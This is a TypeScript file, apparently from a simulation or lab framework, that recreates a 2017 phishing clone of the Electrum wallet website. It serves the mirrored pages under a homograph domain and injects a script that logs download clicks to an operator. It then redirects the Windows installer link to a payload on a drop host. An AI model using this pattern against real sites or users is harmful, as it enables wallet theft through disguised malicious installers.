import { ELECTRUM, electrumFiles, ELECTRUM_DOWNLOADS, ELECTRUM_FILES } from '../brands/electrum.ts';
import { content, replaceEach } from '../content.ts';
import { hostNamed } from '../names.ts';
import { serve } from '../server.ts';
import { fake, type FakeSite } from './fake-site.ts';
import { mirror } from './httrack.ts';
import * as operator from './operator.ts';

const { payloads } = operator;

/** When the tool parsed the index page; the next page came two seconds later. */
export const ELECTRUM_COPIED_AT = new Date('2017-11-17T03:27:29Z');

const copied = mirror(
  Object.fromEntries(Object.entries(electrumFiles).filter(([path]) => path !== '/documentation.html')),
  {
    source: ELECTRUM,
    copiedAt: (path) =>
      path === '/index.html' ? ELECTRUM_COPIED_AT : new Date(ELECTRUM_COPIED_AT.getTime() + 2000),
  },
);

/** The mirrored index with the Windows link turned into a control of its own; the other systems' links were left alone. */
const index = content.html(
  replaceEach(String(copied['/index.html']?.body), [
    [
      `href="https://${ELECTRUM_DOWNLOADS}/3.0.2/${ELECTRUM_FILES.windows}">Installer`,
      `href="#download" onclick="return dl('${payloads.electrum.name}')">Installer`,
    ],
    [
      '<a class="go" href="#download">',
      `<a class="go" href="#download" onclick="return dl('${payloads.electrum.name}')">`,
    ],
    [
      '</body>',
      `<script>
function dl(name) {
  ${operator.reportClick(-1001184420771)}
  window.location = 'dl.php?f=' + name;
  return false;
}
</script>
</body>`,
    ],
  ]),
);

export const ELECTRUM_FAKE_HOST = hostNamed('electrüm.org');

export const electrumFake: FakeSite = fake({
  site: serve(
    ELECTRUM_FAKE_HOST,
    operator.nginxServer,
    {
      ...copied,
      '/': index,
      '/index.html': index,
      '/favicon.ico': electrumFiles['/img/favicon.ico'],
      [`/dl.php?f=${payloads.electrum.name}`]: content.redirect(
        302,
        `https://${operator.DROP_HOST}/f/${payloads.electrum.name}`,
      ),
    },
    { addresses: [operator.DROP_ADDRESS] },
  ),
  brand: ELECTRUM,
  hotlinks: false,
  inMail: 'later',
  functionName: 'dl',
  hops: [`/dl.php?f=${payloads.electrum.name}`, `https://${operator.DROP_HOST}/f/${payloads.electrum.name}`],
  payload: payloads.electrum,
});
